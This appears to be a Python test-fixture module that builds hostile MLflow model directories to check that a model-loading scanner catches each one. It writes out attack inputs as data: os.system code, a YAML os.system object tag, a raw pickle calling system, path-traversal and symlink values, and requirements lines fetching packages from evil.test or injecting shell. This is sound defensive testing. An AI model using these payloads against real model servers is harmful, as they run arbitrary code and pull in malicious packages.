"""Whole model directories, each made to do harm: a good one, and one thing changed.

The corpus has no file: everything is built when a test runs. Each entry says what is changed,
which check must find it, and whether the change comes before the directory is signed (so that
the signature holds and the content must be found out) or after; and whether only the guards of
the loader can find it.
"""

import json
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from tests.registry.hostile_archives import ARCHIVES, gzipped_pickle
from tests.registry.hostile_pickles import GADGETS, GUARDED, TRICKS, gadget

__all__ = ["MODELS", "PICKLED", "Hostile", "as_pickle"]

Change = Callable[[Path, Path], object]  # the directory, the canary
MODEL_FILE = "model.skops"
EVIL_CODE = "import os\nos.system('touch {canary}')\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One entry of the corpus."""

    change: Change
    found_by: str
    is_signed_before: bool = False
    is_found_on_loading: bool = False


def _edit(dotted: str, value: Any) -> Change:
    """Set one field of MLmodel, given by its path with dots."""

    def change(directory: Path, _: Path) -> None:
        content = yaml.safe_load((directory / "MLmodel").read_text())
        *parents, last = dotted.split(".")
        target = content
        for name in parents:
            target = target.setdefault(name, {})
        target[last] = value
        (directory / "MLmodel").write_text(yaml.safe_dump(content))

    return change


def _all(*changes: Change) -> Change:
    def change(directory: Path, canary: Path) -> None:
        for each in changes:
            each(directory, canary)

    return change


def _model_path(path: str) -> Change:
    return _all(
        _edit("flavors.python_function.model_path", path),
        _edit("flavors.sklearn.pickled_model", path),
    )


def _text(text: str) -> Change:
    """Replace MLmodel, or with {old} put something before or after it."""

    def change(directory: Path, canary: Path) -> None:
        path = directory / "MLmodel"
        path.write_text(text.replace("{old}", path.read_text()).replace("{canary}", str(canary)))

    return change


def _file(name: str, text: str = EVIL_CODE) -> Change:
    def change(directory: Path, canary: Path) -> None:
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.replace("{canary}", str(canary)))

    return change


def _line(name: str, line: str) -> Change:
    def change(directory: Path, canary: Path) -> None:
        path = directory / name
        path.write_text(path.read_text() + line.replace("{canary}", str(canary)) + "\n")

    return change


def _link(name: str, target: str) -> Change:
    def change(directory: Path, canary: Path) -> None:
        (directory / name).unlink(missing_ok=True)
        (directory / name).symlink_to(target.replace("{canary}", str(canary)))

    return change


def _flip(name: str) -> Change:
    def change(directory: Path, _: Path) -> None:
        content = bytearray((directory / name).read_bytes())
        content[len(content) // 2] ^= 1
        (directory / name).write_bytes(content)

    return change


def _gone(name: str) -> Change:
    return lambda directory, _: (directory / name).unlink()


def _pipe(directory: Path, _: Path) -> None:
    os.mkfifo(directory / "pipe")


def _swapped_for_directory(directory: Path, _: Path) -> None:
    (directory / MODEL_FILE).unlink()
    (directory / MODEL_FILE).mkdir()
    (directory / MODEL_FILE / "x").write_text("x")


def _self_trust(directory: Path, canary: Path) -> None:
    ARCHIVES["function-os-system"][0](directory / MODEL_FILE, canary)
    _edit("flavors.sklearn.skops_trusted_types", ["os.system", "posix.system"])(directory, canary)


def _emptied(directory: Path, _: Path) -> None:
    shutil.rmtree(directory)
    directory.mkdir()


def _archive(build: Callable[[Path, Path], None]) -> Change:
    return lambda directory, canary: build(directory / MODEL_FILE, canary)


_SAFE, _KNOWN, _PLAIN = "mlmodel_is_safe", "has_only_known_files", "requirements_are_plain"
_PYTHON = "flavors.python_function."
_LAUGHS = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(20)
)

_MLMODEL: dict[str, Change] = {
    "loader-module": _all(_edit(_PYTHON + "loader_module", "evilmod"), _file("evilmod.py")),
    "loader-module-of-mlflow": _edit(_PYTHON + "loader_module", "mlflow.pyfunc.model"),
    "loader-module-that-shadows": _all(
        _edit(_PYTHON + "loader_module", "xgboost"), _file("code/xgboost.py")
    ),
    "code-directory": _all(_edit(_PYTHON + "code", "code"), _file("code/evil.py")),
    "code-of-the-flavor": _all(_edit("flavors.sklearn.code", "code"), _file("code/evil.py")),
    "models-from-code": _all(_edit(_PYTHON + "model_code_path", "model.py"), _file("model.py")),
    "models-from-code-at-the-top": _all(_edit("model_code_path", "model.py"), _file("model.py")),
    "python-model": _edit(_PYTHON + "python_model", "python_model.pkl"),
    "cloudpickle": _edit("flavors.sklearn.serialization_format", "cloudpickle"),
    "pickle": _edit("flavors.sklearn.serialization_format", "pickle"),
    "pickle-with-its-file": _all(
        _edit("flavors.sklearn.serialization_format", "pickle"),
        _model_path("model.pkl"),
        lambda directory, canary: (directory / "model.pkl").write_bytes(gzipped_pickle(canary)),
    ),
    "another-predict": _edit(_PYTHON + "predict_fn", "__reduce__"),
    "path-upwards": _model_path("../../../../outside.skops"),
    "path-absolute": _model_path("{outside}"),
    "path-backslash": _model_path("..\\outside.skops"),
    "path-encoded": _model_path("%2e%2e/outside.skops"),
    "path-nul": _model_path("model\0.skops"),
    "path-newline": _model_path("model.skops\n"),
    "path-folder": _model_path("code/model.skops"),
    "path-hidden": _model_path(".model.skops"),
    "path-long": _model_path("x" * 5_000 + ".skops"),
    "two-paths": _edit(_PYTHON + "model_path", "other.skops"),
    "another-flavor": _edit("flavors.xgboost", {"data": "model.xgb"}),
    "statsmodels-flavor": _edit("flavors.statsmodels", {"data": "model.statsmodels"}),
    "no-sklearn-flavor": _edit("flavors.sklearn", None),
    "no-signature": _edit("signature", None),
    "signature-parameters": _edit("signature.params", "[]"),
    "environment-variables": _edit("env_vars", ["ML_TOKEN"]),
    "metadata": _edit("metadata", {"mlflow.source": "http://169.254.169.254/"}),
    "resources": _edit("resources", {"api_version": "1"}),
    "auth-policy": _edit("auth_policy", {"system": {}}),
    "type-hint": _edit("is_signature_from_type_hint", True),
    "yaml-tag": _text("{old}\nx: !!python/object/apply:os.system ['touch {canary}']\n"),
    "yaml-name": _text("{old}\nx: !!python/name:os.system\n"),
    "yaml-laughs": _text(_LAUGHS),
    "yaml-deep": _text("a: " + "[" * 100_000),
    "yaml-deeper": _text("a: " + "{b: " * 100_000),
    "yaml-two-documents": _text("{old}\n---\na: 1\n"),
    "yaml-of-a-megabyte": _text("{old}\n# " + "x" * 1_000_000),
    "yaml-key-twice": _text("{old}\nflavors: {}\n"),
    "not-text": lambda directory, _: (directory / "MLmodel").write_bytes(b"\xff\xfe\0"),
    "no-mlmodel": _gone("MLmodel"),
    "no-model-file": _gone(MODEL_FILE),
    "a-directory-for-a-file": _swapped_for_directory,
}
_FILES: dict[str, Change] = {
    "module": _file("sklearn.py"),
    "package": _file("numpy/__init__.py"),
    "bytecode": _file("__pycache__/sklearn.cpython-311.pyc"),
    "git": _file(".git/hooks/post-checkout"),
    "git-config": _file(".gitattributes", "* filter=evil\n"),
    "site-customisation": _file("sitecustomize.py"),
    "path-configuration": _file("evil.pth", "import os; os.system('touch {canary}')\n"),
    "makefile": _file("setup.py"),
    "notebook": _file("notebook.ipynb", "{}"),
    "second-model": _file("model.pkl", "cos\nsystem\n(S'touch {canary}'\ntR."),
    "names-that-differ-in-case": _file("mlmodel", "a: 1\n"),
    "device-name": _file("CON", "x"),
    "right-to-left": _file("model\u202egnp.skops", "x"),
}
_REQUIREMENTS: dict[str, Change] = {
    "from-git": _line("requirements.txt", "-e git+https://evil.test/x.git#egg=x"),
    "index": _line("requirements.txt", "--index-url http://evil.test/simple"),
    "extra-index": _line("requirements.txt", "--extra-index-url=http://evil.test/simple"),
    "file": _line("requirements.txt", "evil @ file:///tmp/evil.whl"),
    "address": _line("requirements.txt", "evil @ https://evil.test/evil.whl"),
    "bare-address": _line("requirements.txt", "https://evil.test/evil.whl"),
    "bare-path": _line("requirements.txt", "./evil"),
    "another-list": _line("requirements.txt", "-r /etc/passwd"),
    "option-behind": _line("requirements.txt", "numpy ; python_version > '3' --hash=sha256:0"),
    "continued-line": _line("requirements.txt", "numpy \\\n--pre"),
    "shell": _line("requirements.txt", "numpy; $(touch {canary})"),
    "not-text": lambda directory, _: (directory / "requirements.txt").write_bytes(b"\xff"),
    "endless": _line("requirements.txt", "numpy\n" * 50_000),
    "conda-pip": _line("conda.yaml", "  - pip:\n    - git+https://evil.test/x.git"),
    "conda-channel": _line("conda.yaml", "channels:\n- https://evil.test/channel"),
    "conda-prefix": _line("conda.yaml", "prefix: /usr"),
    "conda-tag": _line("conda.yaml", "x: !!python/object/apply:os.system ['true']"),
    "virtualenv": _line("python_env.yaml", "- -r /etc/passwd"),
}
_TAMPERED: dict[str, tuple[Change, str]] = {
    "flipped-model": (_flip(MODEL_FILE), "no_changed_files"),
    "flipped-mlmodel": (_flip("MLmodel"), "no_changed_files"),
    "flipped-example": (_flip("input_example.json"), "no_changed_files"),
    "removed": (_gone("conda.yaml"), "no_missing_files"),
    "added": (_file("serving_input_example2.json", "{}"), "no_added_files"),
    "added-bytecode": (_file("__pycache__/x.pyc"), "no_added_files"),
    "added-git": (_file(".git/config", "[core]\n"), "no_added_files"),
    "emptied": (_emptied, "no_missing_files"),
    "link-outwards": (_link("link", "{canary}"), "has_safe_files"),
    "link-to-the-system": (_link("link", "/etc/passwd"), "has_safe_files"),
    "link-to-nothing": (_link("link", "nowhere"), "has_safe_files"),
    "link-to-a-directory": (_link("code", "/usr/lib"), "has_safe_files"),
    "link-for-the-model": (_link(MODEL_FILE, "/dev/zero"), "has_safe_files"),
    "link-for-mlmodel": (_link("MLmodel", "/etc/hostname"), "has_safe_files"),
    "pipe": (_pipe, "has_safe_files"),
    "odd-name": (_file("a\nb", "x"), "has_safe_files"),
}

MODELS: dict[str, Hostile] = {
    **{f"file/{n}": Hostile(_archive(build), check) for n, (build, check) in ARCHIVES.items()},
    "file/trusted-by-itself": Hostile(_self_trust, "types_are_trusted"),
    **{f"mlmodel/{name}": Hostile(change, _SAFE) for name, change in _MLMODEL.items()},
    "mlmodel/another-run": Hostile(_edit("run_id", "0" * 32), "mlmodel_is_of_this_run"),
    **{f"files/{name}": Hostile(change, _KNOWN) for name, change in _FILES.items()},
    **{f"requirements/{name}": Hostile(change, _PLAIN) for name, change in _REQUIREMENTS.items()},
    **{
        f"tampered/{name}": Hostile(change, check, is_signed_before=True)
        for name, (change, check) in _TAMPERED.items()
    },
}


def as_pickle(content: Callable[[Path], bytes]) -> Change:
    """Make the directory's model a pickle, as MLflow would describe it."""
    return _all(
        _edit("flavors.sklearn.serialization_format", "cloudpickle"),
        _model_path("model.pkl"),
        _gone(MODEL_FILE),
        lambda directory, canary: (directory / "model.pkl").write_bytes(content(canary)),
    )


def _gadget(name: str) -> Callable[[Path], bytes]:
    return lambda canary: gadget(name, canary, protocol=4)


def _zipped(canary: Path) -> bytes:
    path = canary.with_name("torch.zip")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", gadget("os.system", canary, protocol=2))
    content = path.read_bytes()
    path.unlink()
    return content


# For a server whose operator allows pickles: the scan must find these.
PICKLED: dict[str, Hostile] = {
    f"pickle/{name}": Hostile(
        as_pickle(content), "pickle_is_harmless", is_found_on_loading=name in GUARDED
    )
    for name, content in {
        **{name: _gadget(name) for name in GADGETS},
        **TRICKS,
        "gzip": gzipped_pickle,
        "torch-zip": _zipped,
        "json": lambda _: json.dumps({"a": 1}).encode(),
    }.items()
}
